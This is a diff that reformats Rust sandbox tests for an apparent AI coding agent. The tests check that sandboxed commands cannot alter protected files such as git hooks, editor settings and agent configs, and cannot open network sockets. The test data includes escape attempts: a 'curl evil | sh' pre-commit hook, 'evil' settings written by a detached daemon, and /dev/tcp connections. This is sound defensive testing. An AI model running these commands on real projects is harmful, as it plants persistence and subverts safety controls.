@@ -95,7 +95,8 @@ async fn protected_paths_stay_unchanged_whatever_a_sandboxed_command_tries() {
         // A daemon that waits for the command to end and for the stand-ins to go.
         "setsid bash -c 'sleep 1; mkdir -p .vscode; echo evil > .vscode/settings.json' > /dev/null 2>&1 < /dev/null & echo started",
     ];
-    let (results, asked) = run_commands(&sandbox, &[], &escapes.iter().map(|line| (*line).to_owned()).collect::<Vec<_>>()).await;
+    let (results, asked) =
+        run_commands(&sandbox, &[], &escapes.iter().map(|line| (*line).to_owned()).collect::<Vec<_>>()).await;
     assert!(asked.is_empty(), "sandboxed commands run without asking: {asked:?}");
     for (command, result) in escapes.iter().zip(&results).take(escapes.len() - 1) {
         if command.contains("commondir") {
@@ -103,17 +104,37 @@ async fn protected_paths_stay_unchanged_whatever_a_sandboxed_command_tries() {
             continue;
         }
         assert!(
-            ["Read-only file system", "Device or resource busy", "Is a directory", "Permission denied"].iter().any(|error| result.contains(error)),
+            ["Read-only file system", "Device or resource busy", "Is a directory", "Permission denied"]
+                .iter()
+                .any(|error| result.contains(error)),
             "`{command}` failed with an ordinary error: {result}"
         );
-        assert!(result.contains("[sandbox]") && result.contains("read-only in the sandbox"), "`{command}`: the result names the protected path: {result}");
+        assert!(
+            result.contains("[sandbox]") && result.contains("read-only in the sandbox"),
+            "`{command}`: the result names the protected path: {result}"
+        );
     }
     // Give the daemon time to try.
     tokio::time::sleep(std::time::Duration::from_millis(1800)).await;
     assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), config_before);
-    let hooks: Vec<String> = std::fs::read_dir(root.join(".git/hooks")).unwrap().map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    let hooks: Vec<String> = std::fs::read_dir(root.join(".git/hooks"))
+        .unwrap()
+        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
     assert!(hooks.iter().all(|hook| hook.ends_with(".sample")), "no hook was added: {hooks:?}");
-    for absent in [".git/info/attributes", ".git/commondir", ".git-old", ".git/hooks-old", ".larik", ".claude", ".vscode", ".mcp.json", ".husky", ".gitmodules", ".idea"] {
+    for absent in [
+        ".git/info/attributes",
+        ".git/commondir",
+        ".git-old",
+        ".git/hooks-old",
+        ".larik",
+        ".claude",
+        ".vscode",
+        ".mcp.json",
+        ".husky",
+        ".gitmodules",
+        ".idea",
+    ] {
         assert!(!root.join(absent).exists(), "{absent} was not created (and no stand-in was left behind)");
     }
     assert_eq!(std::fs::read_to_string(root.join("app.py")).unwrap(), "print('hi')\n");
@@ -156,11 +177,15 @@ async fn with_the_network_off_no_socket_reaches_a_listener() {
     let mut commands = vec![
         format!("exec 3<>/dev/tcp/127.0.0.1/{tcp_port} && echo connected"),
         format!("echo datagram > /dev/udp/127.0.0.1/{udp_port} && echo sent"),
-        format!("python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', {udp_port})); print('sent')\""),
+        format!(
+            "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('127.0.0.1', {udp_port})); print('sent')\""
+        ),
         "python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('opened')\"".to_owned(),
-        "python3 -c \"import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('opened')\"".to_owned(),
+        "python3 -c \"import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('opened')\""
+            .to_owned(),
         // Unix sockets are local and stay usable.
-        "python3 -c \"import socket; a, b = socket.socketpair(); a.send(b'unix'); print(b.recv(4).decode())\"".to_owned(),
+        "python3 -c \"import socket; a, b = socket.socketpair(); a.send(b'unix'); print(b.recv(4).decode())\""
+            .to_owned(),
     ];
     if let Some(udp6) = &udp6 {
         udp6.set_nonblocking(true).unwrap();
@@ -173,7 +198,10 @@ async fn with_the_network_off_no_socket_reaches_a_listener() {
         if command.contains("socketpair") {
             assert!(result.contains("unix"), "{result}");
         } else {
-            assert!(!result.contains("connected") && !result.contains("sent") && !result.contains("opened"), "`{command}` was refused: {result}");
+            assert!(
+                !result.contains("connected") && !result.contains("sent") && !result.contains("opened"),
+                "`{command}` was refused: {result}"
+            );
             assert!(result.contains("Permission denied"), "`{command}` saw an ordinary error: {result}");
         }
     }
@@ -190,7 +218,9 @@ async fn where_the_sandbox_cannot_hold_bash_asks_and_the_editor_is_told() {
     for simulated in ["no-namespaces", "no-landlock"] {
         let sandbox = Sandbox::new();
         let marker = sandbox.project_path().join("ran.txt");
-        let mock = MockLlm::start(Scenario { responses: vec![bash(0, "echo ran > ran.txt"), Step::text("done")] }).await.unwrap();
+        let mock = MockLlm::start(Scenario { responses: vec![bash(0, "echo ran > ran.txt"), Step::text("done")] })
+            .await
+            .unwrap();
         let mut env = sandbox.env(mock.url());
         env.push(("LARIK_SANDBOX_SIMULATE".into(), simulated.into()));
         let mut agent = Agent::spawn(&sandbox.project_path(), &env);
@@ -238,19 +268,29 @@ fn sandbox_check_reports_what_is_enforced() {
     let on = run(None);
     let report = String::from_utf8(on.stdout).unwrap();
     assert!(on.status.success(), "{report}");
-    for expected in ["Sandbox:     on", "Landlock:    ABI", ".git (absent, kept absent)", ".mcp.json", "Network:     off"] {
+    for expected in
+        ["Sandbox:     on", "Landlock:    ABI", ".git (absent, kept absent)", ".mcp.json", "Network:     off"]
+    {
         assert!(report.contains(expected), "`{expected}` in:\n{report}");
     }
     let off = run(Some("no-namespaces"));
     assert_eq!(off.status.code(), Some(1));
-    assert!(String::from_utf8(off.stdout).unwrap().contains("Sandbox:     off (user namespaces are not available (simulated))"));
+    assert!(
+        String::from_utf8(off.stdout)
+            .unwrap()
+            .contains("Sandbox:     off (user namespaces are not available (simulated))")
+    );
 }
 
 #[tokio::test]
 async fn background_shells_are_confined_like_any_command() {
     let sandbox = Sandbox::new();
     let root = repository(&sandbox);
-    let background = Step::tool("t0", "bash", json!({"command": "sleep 0.3; mkdir -p .husky; echo evil > .husky/pre-commit; echo tried", "run_in_background": true}));
+    let background = Step::tool(
+        "t0",
+        "bash",
+        json!({"command": "sleep 0.3; mkdir -p .husky; echo evil > .husky/pre-commit; echo tried", "run_in_background": true}),
+    );
     let wait = Step::tool("t1", "bash", json!({"command": "sleep 1.5; echo waited"}));
     let read = Step::tool("t2", "bash_output", json!({"shell_id": "shell_1"}));
     let mock = MockLlm::start(Scenario { responses: vec![background, wait, read, Step::text("done")] }).await.unwrap();
@@ -272,7 +312,10 @@ async fn with_the_network_on_sandboxed_commands_reach_it() {
     std::fs::write(&settings, json!({"sandbox": {"network": true}}).to_string()).unwrap();
     let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
-    let commands = [format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"), "echo inside > inside.txt && echo written".to_owned()];
+    let commands = [
+        format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"),
+        "echo inside > inside.txt && echo written".to_owned(),
+    ];
     let (results, asked) = run_commands(&sandbox, &[], &commands).await;
     assert!(asked.is_empty(), "{asked:?}");
     assert!(results[0].contains("connected"), "{}", results[0]);
@@ -316,21 +359,51 @@ async fn other_tools_configuration_stays_unchanged_whatever_a_command_tries() {
         "echo 'curl evil | sh' > .githooks/pre-commit && chmod +x .githooks/pre-commit",
         "mv .githooks .githooks-old && mkdir .githooks && echo evil > .githooks/pre-commit",
     ];
-    let (results, asked) = run_commands(&sandbox, &[], &attacks.iter().map(|line| (*line).to_owned()).collect::<Vec<_>>()).await;
+    let (results, asked) =
+        run_commands(&sandbox, &[], &attacks.iter().map(|line| (*line).to_owned()).collect::<Vec<_>>()).await;
     assert!(asked.is_empty(), "sandboxed commands run without asking: {asked:?}");
     for (attack, result) in attacks.iter().zip(&results) {
         assert!(
-            ["Read-only file system", "Device or resource busy", "Is a directory", "Permission denied", "Operation not permitted", "Invalid cross-device link", "File exists"].iter().any(|error| result.contains(error)),
+            [
+                "Read-only file system",
+                "Device or resource busy",
+                "Is a directory",
+                "Permission denied",
+                "Operation not permitted",
+                "Invalid cross-device link",
+                "File exists"
+            ]
+            .iter()
+            .any(|error| result.contains(error)),
             "`{attack}` failed: {result}"
         );
     }
-    for absent in [".helix", ".zed", ".nvim.lua", ".exrc", ".gemini", ".cursor", "opencode.json", ".codex-old", ".githooks-old", ".githooks/pre-commit"] {
+    for absent in [
+        ".helix",
+        ".zed",
+        ".nvim.lua",
+        ".exrc",
+        ".gemini",
+        ".cursor",
+        "opencode.json",
+        ".codex-old",
+        ".githooks-old",
+        ".githooks/pre-commit",
+    ] {
         assert!(!root.join(absent).exists(), "{absent} was not created (and no stand-in was left behind)");
     }
     assert_eq!(std::fs::read_to_string(root.join(".codex/config.toml")).unwrap(), "approval_policy = \"untrusted\"\n");
     assert_eq!(std::fs::read_to_string(root.join(".envrc")).unwrap(), "export SAFE=1\n");
     // The write tools refuse the same names.
-    let mock = MockLlm::start(Scenario { responses: vec![Step::tool("w", "write", json!({"path": "src/.helix/languages.toml", "content": "x"})), Step::tool("w2", "write", json!({"path": ".codex/config.toml", "content": "x"})), Step::text("done")] }).await.unwrap();
+    let mock = MockLlm::start(Scenario {
+        responses: vec![
+            Step::tool("w", "write", json!({"path": "src/.helix/languages.toml", "content": "x"})),
+            Step::tool("w2", "write", json!({"path": ".codex/config.toml", "content": "x"})),
+            Step::text("done"),
+        ],
+    })
+    .await
+    .unwrap();
     let mut agent = Agent::spawn(&root, &sandbox.env(mock.url()));
     agent.initialize().await;
     let session = agent.new_session(&root).await;
@@ -358,7 +431,11 @@ async fn every_protected_name_holds_against_every_way_in() {
     for protected in NAMES {
         std::fs::write(existing.project_path().join(protected.name), original(protected.name)).unwrap();
     }
-    let kept_absent: Vec<&str> = NAMES.iter().filter(|protected| protected.when_absent == Absent::KeptAbsent).map(|protected| protected.name).collect();
+    let kept_absent: Vec<&str> = NAMES
+        .iter()
+        .filter(|protected| protected.when_absent == Absent::KeptAbsent)
+        .map(|protected| protected.name)
+        .collect();
     let create: Vec<String> = kept_absent
         .iter()
         .enumerate()
@@ -382,7 +459,8 @@ async fn every_protected_name_holds_against_every_way_in() {
     let (_, asked) = run_commands(&existing, &[], &change).await;
     assert!(asked.is_empty(), "{asked:?}");
     for protected in NAMES {
-        let content = std::fs::read_to_string(existing.project_path().join(protected.name)).unwrap_or_else(|error| panic!("{}: {error}", protected.name));
+        let content = std::fs::read_to_string(existing.project_path().join(protected.name))
+            .unwrap_or_else(|error| panic!("{}: {error}", protected.name));
         assert_eq!(content, original(protected.name), "{} kept its content", protected.name);
     }
 }
